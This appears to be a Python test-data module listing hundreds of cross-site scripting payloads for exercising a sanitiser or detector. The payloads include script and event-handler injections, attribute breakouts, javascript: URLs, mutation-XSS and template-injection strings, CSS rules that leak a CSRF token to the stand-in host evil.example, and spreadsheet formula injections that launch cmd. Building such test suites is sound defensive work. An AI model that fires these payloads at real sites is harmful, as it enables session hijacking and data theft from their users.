# ruff: noqa: E501

"""What an attacker stores in a field and hopes to run in a colleague's browser. Each runs, calls home or covers the page in some
place where it is not escaped; `DETECTED` is what such a script does, and what a detector in the page hears.
"""

DETECTED = ("alert(1)", "confirm(1)", "prompt(1)", "print()", "__xss=1", "top.__xss=1", "self['ale'+'rt'](1)", "alert`1`")
HOME = "evil.example"
"""The foreign host of whatever fetches something."""

_SCRIPTS = (
    *(f"<script>{run}</script>" for run in DETECTED),
    *(
        "<SCRIPT>alert(1)</SCRIPT>",
        "<ScRiPt\n>alert(1)</sCrIpT\t>",
        "<script/x>alert(1)</script>",
        "<script >alert(1)</script foo>",
    ),
    *(f"<script src=//{HOME}/x.js></script>", f"<script src=https://{HOME}/x.js async></script>"),
    *("<script type=module>alert(1)</script>", f"<script type=module>import '//{HOME}/m.js'</script>"),
    *("<script>alert(1)", "<script>alert(1)//", "<script>\u2028alert(1)</script>", "<script>/*<!--*/alert(1)//--></script>"),
    *(
        "<script><!--\nalert(1)\n--></script>",
        "<script>setTimeout('alert(1)')</script>",
        "<script>eval(atob('YWxlcnQoMSk='))</script>",
    ),
    *("<script src=data:text/javascript,alert(1)></script>", "<script nonce=x>alert(1)</script>"),
    *("<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script\x0calert(1)>alert(1)</script>"),
    *("<script>onerror=alert;throw 1</script>", "<script>location='javascript:alert(1)'</script>"),
    "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
)

_LOADED = (
    *("img src=x", "img src=/static/missing.png", "video src=x", "audio src=x", "video><source src=x", "input type=image src=x"),
    *("object data=x", "link rel=stylesheet href=x", "script src=x", "image src=x", "embed src=x", "audio><source src=x"),
)
_HANDLERS = (
    *(f"<{tag} onerror=alert(1)>" for tag in _LOADED),
    *(
        f"<{tag} onload=alert(1)>"
        for tag in (
            "svg",
            "body",
            "iframe",
            "style",
            "iframe src=about:blank",
            "svg/",
            "link rel=stylesheet href=/static/desk.css",
        )
    ),
    *(
        "<IMG SRC=x OnErRoR=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        '<img src="x" onerror="alert(1)">',
        "<img src='x' onerror='alert(1)'>",
    ),
    *(
        "<img src=x onerror=alert`1`>",
        "<img src=x onerror\n=\nalert(1)>",
        "<img src=x onerror=&#97;lert(1)>",
        "<img src=x onerror=&#x61;lert&#40;1&#41;>",
    ),
    *(
        "<img src=x onerror=\\u0061lert(1)>",
        "<img src=x onerror=window['al\\x65rt'](1)>",
        "<img src=x\x0bonerror=alert(1)>",
        "<img \x00src=x onerror=alert(1)>",
    ),
    *(
        "<img src=x onerror=top.__xss=1//",
        "<img src=x:alert(1) onerror=eval(src.slice(2))>",
        "<img src onerror=alert(1)>",
        "<img src=x onerror=print()>",
    ),
    *(
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
        "<button autofocus onfocus=alert(1)>x",
    ),
    *(
        "<a href=# autofocus onfocus=alert(1)>x</a>",
        "<p contenteditable autofocus onfocus=alert(1)>x",
        "<div tabindex=1 autofocus onfocus=alert(1)>x</div>",
    ),
    *(
        "<details open ontoggle=alert(1)>x",
        "<details ontoggle=alert(1) open><summary>x</summary></details>",
        "<dialog open onclose=alert(1)><form method=dialog><button>x",
    ),
    *(
        "<marquee onstart=alert(1)>x</marquee>",
        "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
        "<x onclick=alert(1)>x</x>",
        "<x onpointerenter=alert(1)>x</x>",
    ),
    *(
        "<body onpageshow=alert(1)>",
        "<body onresize=alert(1)>",
        "<body onhashchange=alert(1)>",
        "<body onfocus=alert(1)>",
        "<frameset onload=alert(1)>",
    ),
    *(
        "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>x",
        "<p style=transition:1s ontransitionend=alert(1)>x",
    ),
    *(
        "<video autoplay onloadstart=alert(1) src=x>",
        "<audio controls oncanplay=alert(1) src=data:,>",
        "<video poster=x onerror=alert(1)><source>",
    ),
    *(
        "<form onsubmit=alert(1)><button>x</button></form>",
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<input onbeforeinput=alert(1)>",
    ),
    *(
        "<p onscrollend=alert(1) style=overflow:auto>x",
        "<p oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x",
        "<p popover onbeforetoggle=alert(1)>x",
    ),
)

_BREAKING_OUT = (
    *('"><script>alert(1)</script>', "'><script>alert(1)</script>", "`><script>alert(1)</script>", "><script>alert(1)</script>", "-->\"><svg onload=alert(1)>"),
    *('" onfocus="alert(1)" autofocus="', "' onfocus='alert(1)' autofocus='", '" autofocus onfocus=alert(1) x="', "' autofocus onfocus=alert(1) x='", " autofocus onfocus=alert(1) "),
    *('" onmouseover="alert(1)', "' onmouseover='alert(1)", '"onpointerenter=alert(1)//', "x onerror=alert(1)", '" style="position:fixed;inset:0" onclick="alert(1)'),
    *('" data-refresh="1" data-from="javascript:alert(1)', f'" data-refresh="1" data-from="//{HOME}/piece" id="live', f"' data-live='//{HOME}/' data-shows='live", f'" formaction="//{HOME}/" x="'),
    *("</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>"),
    *("</option></select><img src=x onerror=alert(1)>", "</datalist><svg onload=alert(1)>", "</noscript><script>alert(1)</script>", "</template><script>alert(1)</script>"),
    *("</td></tr></table><svg onload=alert(1)>", "</caption><script>alert(1)</script>", "</label></form><form action=javascript:alert(1)><button>x", "</main></body></html><svg onload=alert(1)>"),
    *("--><script>alert(1)</script><!--", "--!><img src=x onerror=alert(1)>", "<!--><script>alert(1)</script>-->", "<!--[if true]><script>alert(1)</script><![endif]-->", "*/alert(1)/*"),
    *("]]><script>alert(1)</script>", "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><script>alert(1)</script>", "<?php echo 1 ?><svg onload=alert(1)>", "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;"),
    *("';alert(1);//", '";alert(1);//', "\\';alert(1);//", "\\\";alert(1);//", "${alert(1)}", "`+alert(1)+`", "');alert(1);('", "\u2028alert(1)//", "</script \x00><svg onload=alert(1)>"),
)  # fmt: skip

_ADDRESSES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)"),
    *("javascript://%0aalert(1)", "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/", "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>"),
    *("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "blob:null/x", "feed:javascript:alert(1)"),
    *("<a href=javascript:alert(1)>x</a>", "<a href='java&#10;script:alert(1)'>x</a>", "<a href=&#1;javascript:alert(1)>x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>"),
    *("<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<iframe srcdoc=&lt;svg/onload=parent.alert(1)&gt;></iframe>"),
    *("<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<object data=data:text/html,<script>alert(1)</script>>", "<form action=javascript:alert(1)><input type=submit id=go></form>"),
    *(f"<iframe src=//{HOME}/></iframe>", f"<base href=//{HOME}/>", f"<meta http-equiv=refresh content='0;url=//{HOME}/'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>"),
    *(f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' {HOME}\">", f"<link rel=stylesheet href=//{HOME}/x.css>", f"<link rel=prefetch href=//{HOME}/>", f"<link rel=preconnect href=//{HOME}/>"),
    *(f"<link rel=icon href=//{HOME}/i.ico>", f"<link rel=manifest href=//{HOME}/m.json>", f"<img src=//{HOME}/i.png>", f"<img srcset='//{HOME}/i.png 1x'>", f"<picture><source srcset=//{HOME}/p.png><img></picture>"),
    *(f"<video src=//{HOME}/v.mp4 autoplay></video>", f"<video poster=//{HOME}/p.png>", f"<audio src=//{HOME}/a.mp3 autoplay>", f"<track src=//{HOME}/t.vtt default>", f"<table background=//{HOME}/b.png><td>x"),
    *(f"<body background=//{HOME}/b.png>", f"<input type=image src=//{HOME}/i.png>", f"<object data=//{HOME}/o></object>", f"<embed src=//{HOME}/e>", f"<svg><image href=//{HOME}/s.png /></svg>"),
    *(f"<a href=//{HOME}/ ping=//{HOME}/ping>x</a>", f"<img src='//{HOME}/?", f'<img src="//{HOME}/?', f"<form action=//{HOME}/ id=steal><button form=steal>x", f"<button form=steal formaction=//{HOME}/>x"),
)  # fmt: skip

_DRAWN = (
    *("<svg><script>alert(1)</script></svg>", "<svg><script href=data:text/javascript,alert(1) />", "<svg><script>alert&#40;1&#41;</script></svg>", "<svg><script xlink:href=data:,alert(1) />"),
    *("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributeName=x>", "<svg><animate attributeName=x dur=1s onend=alert(1)>", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>"),
    *("<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x' />", "<svg><desc><img src=x onerror=alert(1)></desc></svg>"),
    *("<svg><title><img src=x onerror=alert(1)></title></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "</text></svg><script>alert(1)</script>", "</tspan><script xmlns='http://www.w3.org/2000/svg'>alert(1)</script>"),
    *("<text xmlns:h='http://www.w3.org/1999/xhtml'><h:script>alert(1)</h:script></text>", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>"),
    *("<?xml-stylesheet href='javascript:alert(1)'?>", f"<!DOCTYPE svg SYSTEM '//{HOME}/x.dtd'>", "<svg><handler type=text/javascript xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert(1)</handler></svg>"),
    *("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>", "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>"),
)  # fmt: skip

_CHANGING_WHEN_READ_TWICE = (
    *("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<p title='</p><img src=x onerror=alert(1)>'>", "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>"),
    *("<math><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<xmp><p title='</xmp><svg onload=alert(1)>'>", "<plaintext><svg onload=alert(1)>"),
    *("<textarea><img title='</textarea><img src=x onerror=alert(1)>'>", "<select><option><style></option></select><img src=x onerror=alert(1)></style>", "<table><tr><td><a href='</table><svg onload=alert(1)>'>", "<iframe><img title='</iframe><svg onload=alert(1)>'>"),
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "&LT;img src=x onerror=alert(1)&GT;", "&#x3c;svg onload=alert(1)&#x3e;", "&#0000060svg onload=alert(1)>"),
    *("%3Cscript%3Ealert(1)%3C/script%3E", "%253Csvg%2520onload%253Dalert(1)%253E", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "\\u003csvg onload=alert(1)\\u003e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "+/v8 +ADw-svg onload+AD0-alert(1)+AD4-"),
    *("＜script＞alert(1)＜/script＞", "﹤svg onload=alert(1)﹥", "<ſcript>alert(1)</ſcript>", "<\u200bscript>alert(1)</script>", "<s\u0301cript>alert(1)</script>", "\ufeff<script>alert(1)</script>", "¼script¾alert(1)¼/script¾"),
    *("<scr\x00ipt>alert(1)</scr\x00ipt>", "\x00<script>alert(1)</script>", "<svg\x00onload=alert(1)>", "\x1b[2J<svg onload=alert(1)>", "\x7f<svg onload=alert(1)>", "<svg\x85onload=alert(1)>", "<svg\xa0onload=alert(1)>", "\r\n\r\n<script>alert(1)</script>"),
)  # fmt: skip

_OF_FRAMEWORKS = (
    *("{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}", "{{_c.constructor('alert(1)')()}}", "<p ng-app ng-csp ng-focus=$event.view.alert(1) tabindex=0 autofocus>x", "<p v-html='\"<img src=x onerror=alert(1)>\"'></p>", "[[constructor.constructor('alert(1)')()]]"),
    *("<p x-data x-init=alert(1)>", "<p x-html='alert(1)'>", "<p hx-get=/ hx-on::load=alert(1)>", f"<p hx-trigger=load hx-get=//{HOME}/>", "<p data-bind='html: alert(1)'>", "<p _='on load call alert(1)'>", "<p @click=alert(1) :title=alert(1)>", "{@html '<svg onload=alert(1)>'}"),
    *("#{alert(1)}", "<%= alert(1) %>", "{{{'<svg onload=alert(1)>'}}}", "{% raw %}<svg onload=alert(1)>{% endraw %}", "{{ '<svg onload=alert(1)>'|safe }}", "{{ say.func.__globals__ }}", "{%- set x = '<script>alert(1)</script>' -%}{{ x }}", "{name} {n:>999} %(name)s %s {0.__class__}", "$alert(1)$ \\(alert(1)\\)"),
)  # fmt: skip

_STYLED = (
    *(f"<style>@import '//{HOME}/x.css';</style>", f"<style>body{{background:url(//{HOME}/b.png)}}</style>", "<style>main,header{display:none!important}</style>", f"<style>input[name=csrf][value^=a]{{background:url(//{HOME}/a)}}</style>"),
    *("<p style=position:fixed;inset:0;background:red;z-index:9999>x</p>", f"<p style=background:url(//{HOME}/p.png)>x", f"</style><style>*{{list-style:url(//{HOME}/l.png)}}", f"red;}}*{{background:url(//{HOME}/c.png)", "x:expression(alert(1))", "<p style=behavior:url(#default#time2) onbegin=alert(1)>"),
    *(f"<style>@font-face{{font-family:x;src:url(//{HOME}/f)}}*{{font-family:x}}</style>", "<link rel=stylesheet href='data:text/css,body{display:none}'>", "<style>:root{--x:</style><svg onload=alert(1)>}"),
)  # fmt: skip

_CONFUSING = (
    *("\u202e<script>)1(trela</script>\u202c", "\u2066<svg onload=alert(1)>\u2069", "Сауле\u200f\u202egnp.exe<img src=x onerror=alert(1)>", "\u200b\u200c\u200d\u2060<svg onload=alert(1)>", "\U000e0001\U000e0073<svg onload=alert(1)>", "Z̸̡͔͝a̷̱͆l̶͎̈g̵͍̀o̸̧͝<img src=x onerror=alert(1)>"),
    *("=HYPERLINK(\"//evil.example\")<svg onload=alert(1)>", "@SUM(1)*cmd|' /C calc'!A0<script>alert(1)</script>", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1<svg onload=alert(1)>", "\r=1+1"),
    *("<id=getElementById><img name=body><form name=cookie>", "<form id=live><input name=dataset><input name=id></form>", "<a id=import><a id=import name=dataset>x</a>", "__proto__", "constructor", "<p id=live data-refresh=1 data-from=javascript:alert(1)>"),
    *("A" * 300 + "<svg onload=alert(1)>", "<" * 300 + "svg onload=alert(1)>", "<b>" * 200 + "<img src=x onerror=alert(1)>", "'\"" * 150 + "><svg onload=alert(1)>", "😀" * 100 + "<script>alert(1)</script>", "<a " + "x=1 " * 100 + "onfocus=alert(1) autofocus href=#>"),
    "'\"`--></title></style></textarea></script></select></noscript><img/src=x/onerror=alert(1)><svg/onload=alert(1)>//{{constructor.constructor('alert(1)')()}}${alert(1)}",
    "\"'--></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>",
)  # fmt: skip

TEXTS: tuple[str, ...] = (
    *(_SCRIPTS + _HANDLERS + _BREAKING_OUT + _ADDRESSES),
    *(_DRAWN + _CHANGING_WHEN_READ_TWICE + _OF_FRAMEWORKS + _STYLED + _CONFUSING),
)

PRINTABLE = tuple(text for text in TEXTS if text.isprintable())
"""Those that stand on one line: most forms refuse the others, which get in by another way or not at all."""


def all_in_one(most: int, *, start: int = 0) -> str:
    """As many of them, from that one on, as fit into a field of this length."""
    told, length = [], 0
    turn = start % len(PRINTABLE)
    for text in PRINTABLE[turn:] + PRINTABLE[:turn]:
        length += len(text) + 1
        if length > most:
            break
        told.append(text)
    return " ".join(told)
